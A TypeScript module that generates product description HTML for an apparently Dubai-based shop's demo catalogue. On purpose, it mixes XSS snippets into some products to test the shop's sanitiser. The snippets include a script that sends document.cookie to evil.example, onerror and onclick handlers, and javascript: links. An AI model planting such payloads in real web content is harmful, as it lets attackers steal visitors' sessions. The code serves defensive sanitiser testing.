/**
 * The back-office HTML of a product (description, invoice text, spec table, meta tags), generated
 * on first use and memoised: most requests never need it for most of a 20,000-product catalogue.
 * The HTML is what an editor pastes into the portal, so a few products carry hostile markup on
 * purpose: the shop's sanitiser must remove it.
 */
import type { Catalogue, DemoProduct } from './catalogue.ts';
import { createRng } from './prng.ts';
import { escapeHtml } from '../../src/domain/escape.ts';

export interface ProductTexts {
  details: string;
  productDetails: string;
  keyInformation: string;
  metadata: string;
  metadesc: string;
}

const memo = new WeakMap<DemoProduct, ProductTexts>();

const INTROS = [
  'The {name} is built for UAE businesses that need dependable, easy-to-manage equipment.',
  'Upgrade your office with the {name}, in stock in Dubai and delivered across the Emirates.',
  'Designed for small and medium businesses, the {name} combines {brand} quality with a fair price.',
  'Trusted by IT teams across the Gulf, the {name} delivers the performance your network needs.',
];

const HOSTILE_SNIPPETS = [
  '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
  '<img src="x" onerror="alert(\'xss\')">',
  '<p><a href="javascript:alert(1)" onclick="alert(2)">Download the datasheet</a></p>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<p style="position:fixed;top:0;left:0;width:100%" onmouseover="alert(3)">Limited offer!</p>',
];

function generate(product: DemoProduct, catalogue: Catalogue): ProductTexts {
  const rng = createRng(product.textSeed);
  const brand = catalogue.brandsById.get(product.brandId)?.name ?? '';
  const sub = catalogue.categoriesById.get(product.subcategoryId)?.name ?? '';
  const name = escapeHtml(product.name);
  const features = [...(catalogue.featuresByTopId.get(product.categoryId) ?? [])];
  const chosen: string[] = [];
  for (let n = rng.int(3, 5); n > 0 && features.length > 0; n--)
    chosen.push(features.splice(rng.int(0, features.length - 1), 1)[0] as string);

  let details =
    `<p>${rng.pick(INTROS).replace('{name}', `<strong>${name}</strong>`).replace('{brand}', escapeHtml(brand))}</p>` +
    `<p><strong>Key features</strong></p><ul>${chosen.map((f) => `<li>${escapeHtml(f)}</li>`).join('')}</ul>` +
    `<p>Model: <strong>${escapeHtml(product.code)}</strong>. Prices include 5% VAT. 1 year warranty in the UAE.</p>`;
  let productDetails = `<p>${name}</p><p>Warranty: 1 Year</p>`;

  const rows: string[] = [
    '<tr><td colspan="2"><strong>General</strong></td></tr>',
    `<tr><td>Brand</td><td>${escapeHtml(brand)}</td></tr>`,
    `<tr><td>Model</td><td>${escapeHtml(product.code)}</td></tr>`,
    `<tr><td>Category</td><td>${escapeHtml(sub)}</td></tr>`,
  ];
  const ports = /(\d+)-Port/.exec(product.name)?.[1];
  for (const group of catalogue.specsByTopId.get(product.categoryId) ?? []) {
    rows.push(`<tr><td colspan="2"><strong>${escapeHtml(group.heading)}</strong></td></tr>`);
    for (const [label, values] of group.rows) {
      // Keep the table consistent with the name where the name says it.
      const value =
        label === 'Ethernet Ports' && ports ? `${ports} x 10/100/1000` : rng.pick(values);
      rows.push(`<tr><td>${escapeHtml(label)}</td><td>${escapeHtml(value)}</td></tr>`);
    }
  }
  rows.push(
    '<tr><td colspan="2"><strong>Warranty</strong></td></tr>',
    '<tr><td>Warranty</td><td>1 Year</td></tr>',
  );

  if (product.hostile) {
    details += HOSTILE_SNIPPETS[product.id % HOSTILE_SNIPPETS.length] as string;
    details += HOSTILE_SNIPPETS[(product.id + 1) % HOSTILE_SNIPPETS.length] as string;
    productDetails += '<img src="x" onerror="alert(\'invoice\')">';
    rows.push(
      '<tr onclick="alert(4)"><td>Support</td><td><a href="javascript:void(0)">Call us</a></td></tr>',
    );
  }

  return {
    details,
    productDetails,
    keyInformation: `<table class="table table-bordered"><tbody>${rows.join('')}</tbody></table>`,
    metadata: `${product.name} | Buy Online in Dubai, UAE`,
    metadesc: `Buy ${product.name} (${product.code}) online in the UAE at the best price. Shop ${sub} from ${brand} with free delivery across the Emirates.`,
  };
}

export function productTexts(product: DemoProduct, catalogue: Catalogue): ProductTexts {
  let texts = memo.get(product);
  if (!texts) {
    texts = generate(product, catalogue);
    memo.set(product, texts);
  }
  return texts;
}
